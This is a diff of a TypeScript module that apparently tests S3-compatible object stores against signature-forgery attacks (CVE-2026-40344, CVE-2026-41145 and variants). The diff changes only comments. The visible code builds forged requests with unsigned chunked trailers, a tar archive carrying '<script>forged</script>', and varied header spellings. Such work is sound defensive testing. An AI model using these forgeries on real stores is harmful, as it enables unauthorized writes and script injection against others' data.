@@ -1,7 +1,7 @@
 import http from 'node:http';
 import { crc32 } from 'node:zlib';
 
-/** A request that is sent exactly as written: no client sets, drops or changes a header. */
+/** A request that is sent exactly as written. An S3 client would add or change headers. */
 export interface RawRequest {
   readonly method: string;
   readonly url: string;
@@ -9,23 +9,23 @@ export interface RawRequest {
   readonly body: Buffer;
 }
 
-/** The object of a forgery, and everything that its sender knows. */
+/** The object that a forged request aims at, and everything that the attacker knows. */
 export interface Target {
   readonly endpoint: string;
   readonly bucket: string;
   readonly key: string;
   readonly accessKey: string;
-  /** The id of a multipart upload that another client began. */
+  /** Id of a multipart upload that another client has begun. */
   readonly uploadId: string;
 }
 
-/** A request with an invented signature. */
+/** An attempt to access the store with an invented signature. */
 export interface Forgery {
   readonly name: string;
   build(target: Target): RawRequest;
 }
 
-/** Sends a request to the store and returns the status. */
+/** Sends a request to the store and returns the HTTP status. */
 export function send({ method, url, headers, body }: RawRequest): Promise<number> {
   const { promise, resolve, reject } = Promise.withResolvers<number>();
   http
@@ -39,7 +39,7 @@ export function send({ method, url, headers, body }: RawRequest): Promise<number
 
 const forgedBytes = Buffer.from('<script>forged</script>');
 
-/** An archive of one file, which the store unpacks to an object of that name. */
+/** Makes a tar archive with one file. The store would unpack it to an object with this key. */
 function tar(key: string): Buffer {
   const header = Buffer.alloc(512);
   const octal = (value: number, length: number) => `${value.toString(8).padStart(length - 1, '0')}\0`;
@@ -50,7 +50,7 @@ function tar(key: string): Buffer {
     [116, octal(0, 8)],
     [124, octal(forgedBytes.length, 12)],
     [136, octal(0, 12)],
-    // The checksum counts its own field as spaces.
+    // For the checksum, the checksum field itself counts as spaces.
     [148, ' '.repeat(8)],
     [156, '0'],
     [257, 'ustar\x0000'],
@@ -67,7 +67,7 @@ function tar(key: string): Buffer {
   return Buffer.concat([header, forgedBytes, padding]);
 }
 
-/** Unsigned chunks, and the trailer with their checksum. */
+/** Encodes bytes as unsigned chunks with a trailer that contains their checksum. */
 function awsChunked(bytes: Buffer): Buffer {
   const sum = Buffer.alloc(4);
   sum.writeUInt32BE(crc32(bytes));
@@ -189,7 +189,7 @@ const spellings: Record<string, (name: string) => string> = {
   'names in upper case': (name) => name.toUpperCase(),
 };
 
-/** The variants of CVE-2026-40344 and CVE-2026-41145 for an operation, and similar ones. */
+/** Builds the attacks of CVE-2026-40344 and CVE-2026-41145 on an operation, and similar ones. */
 function forge(operation: Operation): Forgery[] {
   return combinations.map(({ name, sign, wrap, hash, spell }) => ({
     name,
@@ -218,7 +218,7 @@ const combinations = Object.entries(credentials).flatMap(([credential, sign]) =>
   Object.entries(bodies).flatMap(([wrapping, wrap]) =>
     hashes.flatMap((hash) => {
       const all = Object.entries(spellings);
-      // Only the unsigned trailer was ever accepted without a signature.
+      // Header names are varied only for unsigned trailers, the one case that stores have accepted.
       const spelt = hash === unsignedTrailer ? all : all.slice(0, 1);
       return spelt.map(([spelling, spell]) => {
         const name = [credential, wrapping, hash, spelling].join(', ');
@@ -228,7 +228,7 @@ const combinations = Object.entries(credentials).flatMap(([credential, sign]) =>
   ),
 );
 
-/** Each operation with all its forgeries. */
+/** All operations with their forged requests. */
 export const forgeries = Object.entries(operations).map(([operation, how]) => ({
   operation,
   variants: forge(how),
